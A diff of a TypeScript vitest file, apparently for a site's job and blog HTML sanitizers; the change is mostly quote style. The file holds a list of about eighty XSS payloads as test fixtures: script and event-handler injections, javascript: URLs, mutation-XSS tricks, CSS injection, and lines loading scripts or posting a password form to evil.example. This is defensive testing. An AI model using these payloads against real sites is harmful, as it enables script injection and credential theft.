@@ -1,21 +1,21 @@
-import { describe, expect, test } from 'vitest';
-import { cleanBlogHtml, cleanJobHtml, sanitizeBlogHtml, sanitizeJobHtml } from './sanitize';
+import { describe, expect, test } from "vitest";
+import { cleanBlogHtml, cleanJobHtml, sanitizeBlogHtml, sanitizeJobHtml } from "./sanitize";
 
 const link = 'href="(?:https?:|mailto:)[^"<>]*" target="_blank" rel="nofollow noopener noreferrer"';
 const jobTag = new RegExp(
   `</?(?:h[2-5]|p|strong|b|em|i|u|blockquote|pre|code|ol|ul|li|a)>|<br />|<a ${link}>`,
-  'gu',
+  "gu",
 );
 const blogTag = new RegExp(
   [
     jobTag.source,
-    '</?(?:s|span)>',
+    "</?(?:s|span)>",
     '<a href="/(?!/)[^"<>]*">',
     '<span style="color:(?:#[\\da-fA-F]{3,6}|rgb\\([\\d, ]+\\))">',
     '<(?:p|h[2-4]) style="text-align:(?:left|center|right|justify)">',
     '<img src="(?:https:|/(?!/))[^"<>]*" alt="[^"<>]*"(?: (?:width|height)="\\d+")* loading="lazy" referrerpolicy="no-referrer" />',
-  ].join('|'),
-  'gu',
+  ].join("|"),
+  "gu",
 );
 
 const keptJobTag =
@@ -23,41 +23,41 @@ const keptJobTag =
 const keptBlogTag = new RegExp(
   [
     keptJobTag.source,
-    '</?(?:s|span)>',
+    "</?(?:s|span)>",
     '<a href="/(?!/)[^"<>]*">',
     '<span style="color:(?:#[\\da-fA-F]{3,6}|rgb\\([\\d, ]+\\))">',
     '<(?:p|h[1-3]) style="text-align:(?:left|center|right|justify)">',
     '<img src="(?:https:|/(?!/))[^"<>]*" alt="[^"<>]*"(?: (?:width|height)="\\d+")* />',
-  ].join('|'),
-  'gu',
+  ].join("|"),
+  "gu",
 );
 
 /** What a browser could read as a tag once every tag we mean to allow is taken away. */
-const leftOver = (html: string, allowed: RegExp) => html.replace(allowed, '').match(/[<>]/gu);
+const leftOver = (html: string, allowed: RegExp) => html.replace(allowed, "").match(/[<>]/gu);
 
 const attacks = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<script/x>alert(1)</script\t\n>',
-  '<<script>alert(1)//<</script>',
-  '<img src=x onerror=alert(1)>',
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<script/x>alert(1)</script\t\n>",
+  "<<script>alert(1)//<</script>",
+  "<img src=x onerror=alert(1)>",
   '<img src="x" onerror="alert(1)"//',
-  '<img/src=`x`onerror=alert(1)>',
-  '<img src=javascript:alert(1)>',
-  '<img src=data:image/svg+xml;base64,PHN2Zz4=>',
+  "<img/src=`x`onerror=alert(1)>",
+  "<img src=javascript:alert(1)>",
+  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
   '<img srcset="x 1x, javascript:alert(1) 2x">',
   '<img src="https://ok.example/a.png" onload=alert(1)>',
   '<img src="https://ok.example/a.png" style="background:url(https://t.example)">',
   '<img """><script>alert(1)</script>">',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
   '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>',
+  "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
   '<a href="javascript:alert(1)">x</a>',
   '<a href=" &#14;  javascript:alert(1)">x</a>',
   '<a href="java\nscript:alert(1)">x</a>',
@@ -78,58 +78,61 @@ const attacks = [
   '<a href="https://ok.example" ping="https://t.example" download>x</a>',
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe><img src=x onerror=alert(1)></iframe>',
+  "<iframe><img src=x onerror=alert(1)></iframe>",
   '<object data="javascript:alert(1)"></object>',
   '<embed src="https://evil.example/x.swf">',
   '<base href="https://evil.example/">',
   '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   '<link rel=stylesheet href="https://evil.example/x.css">',
   '<style>@import "https://evil.example/x.css";</style>',
-  '<style><!--</style><script>alert(1)</script>-->',
+  "<style><!--</style><script>alert(1)</script>-->",
   '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
-  '<input autofocus onfocus=alert(1)>',
-  '<select><option><img src=x onerror=alert(1)></option></select>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<body onload=alert(1)>',
-  '<marquee onstart=alert(1)>x</marquee>',
+  "<input autofocus onfocus=alert(1)>",
+  "<select><option><img src=x onerror=alert(1)></option></select>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)>",
+  "<body onload=alert(1)>",
+  "<marquee onstart=alert(1)>x</marquee>",
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<noembed><img src=x onerror=alert(1)></noembed>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<textarea></textarea><img src=x onerror=alert(1)>',
-  '<template><script>alert(1)</script></template>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<plaintext><img src=x onerror=alert(1)>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!--[if IE]><script>alert(1)</script><![endif]-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
+  "<noembed><img src=x onerror=alert(1)></noembed>",
+  "<xmp><img src=x onerror=alert(1)></xmp>",
+  "<textarea></textarea><img src=x onerror=alert(1)>",
+  "<template><script>alert(1)</script></template>",
+  "<title><img src=x onerror=alert(1)></title>",
+  "<plaintext><img src=x onerror=alert(1)>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<!--[if IE]><script>alert(1)</script><![endif]-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
   '<?xml version="1.0"?><script>alert(1)</script>',
   '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
   '<p style="color:red;background:url(https://t.example)">x</p>',
   '<p style="text-align:center;position:fixed;top:0">x</p>',
   '<span style="color:expression(alert(1))">x</span>',
   '<span style="color:#fff;}body{display:none">x</span>',
   '<span style="color: rgb(1, 2, 3); background-image: url(https://t.example)">x</span>',
   '<span class="admin" id="session" name="cookie">x</span>',
-  '<p onclick=alert(1) data-x=1 contenteditable>x</p>',
-  '<b\0onclick=alert(1)>x</b>',
-  '<p>\u0000<scr\u0000ipt>alert(1)</script>',
+  "<p onclick=alert(1) data-x=1 contenteditable>x</p>",
+  "<b\0onclick=alert(1)>x</b>",
+  "<p>\u0000<scr\u0000ipt>alert(1)</script>",
 ];
 
-describe.each(attacks)('against %j', (attack) => {
-  test('a description keeps only the tags and links of a description', () => {
+describe.each(attacks)("against %j", (attack) => {
+  test("a description keeps only the tags and links of a description", () => {
     expect(leftOver(sanitizeJobHtml(attack), jobTag)).toBeNull();
   });
 
-  test('a post keeps only the tags, links, colours and pictures of a post', () => {
+  test("a post keeps only the tags, links, colours and pictures of a post", () => {
     expect(leftOver(sanitizeBlogHtml(attack), blogTag)).toBeNull();
   });
 
-  test('what is kept of it has only the tags the editors write, and cleaning it again changes nothing', () => {
-    for (const [clean, tag] of [[cleanJobHtml, keptJobTag], [cleanBlogHtml, keptBlogTag]] as const) {
+  test("what is kept of it has only the tags the editors write, and cleaning it again changes nothing", () => {
+    for (const [clean, tag] of [
+      [cleanJobHtml, keptJobTag],
+      [cleanBlogHtml, keptBlogTag],
+    ] as const) {
       const kept = clean(attack);
       expect(leftOver(kept, tag)).toBeNull();
       expect(clean(kept)).toBe(kept);
@@ -137,12 +140,13 @@ describe.each(attacks)('against %j', (attack) => {
   });
 });
 
-test('a script, a style and a form field leave no words behind', () => {
-  const html = 'a<script>b</script><style>c</style><textarea>d</textarea><svg><title>e</title></svg>';
-  expect(sanitizeJobHtml(html)).toBe('a');
+test("a script, a style and a form field leave no words behind", () => {
+  const html =
+    "a<script>b</script><style>c</style><textarea>d</textarea><svg><title>e</title></svg>";
+  expect(sanitizeJobHtml(html)).toBe("a");
 });
 
-test('very deep nesting is cut, not followed', () => {
-  const depth = sanitizeJobHtml('<b>'.repeat(20_000) + 'x').match(/<b>/gu)?.length ?? 0;
+test("very deep nesting is cut, not followed", () => {
+  const depth = sanitizeJobHtml("<b>".repeat(20_000) + "x").match(/<b>/gu)?.length ?? 0;
   expect(depth).toBeLessThanOrEqual(40);
 });
